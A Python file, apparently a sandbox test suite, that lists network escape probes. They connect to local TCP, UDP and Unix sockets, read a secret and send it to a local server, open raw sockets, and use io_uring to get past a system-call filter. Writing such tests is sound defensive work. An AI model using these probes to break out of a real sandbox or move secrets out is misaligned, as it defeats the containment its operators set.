"""Attacks over the network: carry something out, let somebody in."""

TITLE = "Use the network"
SHARED: dict[str, str] = {}
ATTACKS = r"""
connects to a server
- level 0: network reached (network)
    socket.create_connection(('127.0.0.1', YARD['tcp']))

sends a secret to a server
- level 0: network reached, secret read (network)
    text = open(YARD["secret"], "rb").read()
    socket.create_connection(("127.0.0.1", YARD["tcp"])).send(text)

sends a packet: UDP needs no listener
- level 0: network reached (network)
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", YARD["udp"]))

asks a web server
- level 0: network reached (network)
    import urllib.request
    urllib.request.urlopen(f"http://127.0.0.1:{YARD['tcp']}/", timeout=0.2)

connects to an abstract socket: a name that is no file
- level 0: network reached (network)
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(YARD["abstract"])
    connection.send(b"x")

connects to a socket file: like Docker's
- level 0: network reached (network)
    connection = socket.socket(socket.AF_UNIX)
    connection.connect(YARD["local"])
    connection.send(b"x")

connects through torch: torch.distributed has its own sockets
- level 0: network reached (network)
    import datetime, torch.distributed
    soon = datetime.timedelta(seconds=0.3)
    torch.distributed.TCPStore("127.0.0.1", YARD["tcp"], is_master=False, timeout=soon)

listens for connections
    door = socket.socket()
    door.bind(("127.0.0.1", 0))
    door.listen()
    raise RuntimeError(f"port {door.getsockname()[1]} is open")

opens a raw socket: sees all packets of the machine
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)

sets up io_uring: opens files and sockets past a filter of system calls
    needs(libc.syscall(425, 8, ctypes.create_string_buffer(120)))

asks for the network's interfaces: by a command to the socket that the worker inherits
- level 0: secret read (network); varies
    room = ctypes.create_string_buffer(4096)
    for number in range(3, 16):
        if tried(fcntl.ioctl, number, 0x8912, struct.pack("iP", 4096, ctypes.addressof(room))):
            tell()
"""
